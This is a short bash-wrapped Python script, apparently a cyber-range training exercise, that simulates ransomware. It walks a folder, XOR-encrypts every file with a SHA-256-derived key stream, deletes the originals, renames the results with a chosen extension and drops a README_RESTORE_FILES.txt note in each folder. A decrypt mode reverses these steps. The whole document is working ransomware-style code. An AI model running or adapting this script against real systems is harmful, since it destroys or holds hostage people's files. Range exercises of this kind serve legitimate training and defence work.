#!/usr/bin/env bash
# (Enshu exercise) Encrypts (or, with MODE=decrypt, restores) every file under a folder with a key stream from
# the key, renames it with the extension and leaves a note in each folder. Reversible by design;
# prints how many files it changed.
# Environment: KEY, FOLDER, EXTENSION, NOTE, MODE (encrypt or decrypt).
# Run on a range host as `env NAME=value... bash -c SCRIPT`: values arrive only as environment variables.
python3 - <<'PY'
import hashlib, os
key, root, ext, note, mode = (os.environ[k] for k in ("KEY", "FOLDER", "EXTENSION", "NOTE", "MODE"))
def stream(data):
    out = bytearray()
    for block in range(0, len(data), 32):
        pad = hashlib.sha256(f"{key}:{block // 32}".encode()).digest()
        out += bytes(a ^ b for a, b in zip(data[block:block + 32], pad))
    return bytes(out)
count = 0
for folder, _, files in os.walk(root):
    for name in files:
        path = os.path.join(folder, name)
        if name == "README_RESTORE_FILES.txt":
            if mode == "decrypt":
                os.remove(path)
            continue
        if mode == "encrypt" and not name.endswith(ext):
            with open(path, "rb") as f:
                data = f.read()
            with open(path + ext, "wb") as f:
                f.write(stream(data))
            os.remove(path)
            count += 1
        elif mode == "decrypt" and name.endswith(ext):
            with open(path, "rb") as f:
                data = f.read()
            with open(path[: -len(ext)], "wb") as f:
                f.write(stream(data))
            os.remove(path)
            count += 1
    if mode == "encrypt":
        with open(os.path.join(folder, "README_RESTORE_FILES.txt"), "w") as f:
            f.write(note)
print(count)
PY
